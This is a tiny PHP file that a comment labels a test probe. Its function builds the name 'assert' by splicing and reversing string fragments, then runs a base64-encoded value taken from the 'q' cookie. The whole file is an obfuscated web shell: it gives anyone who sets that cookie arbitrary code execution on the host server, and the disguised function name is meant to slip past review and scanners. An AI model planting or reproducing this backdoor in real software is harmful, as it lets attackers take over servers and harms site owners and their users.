<?php
// a probe written for the tests: the runner's name is glued from the function's arguments
function route($head, $tail)
{
    $name = strrev(substr_replace($head, $tail, 2, 0));
    $name(stripslashes(base64_decode(@$_COOKIE['q'])));
}
route('trsa', 'es');
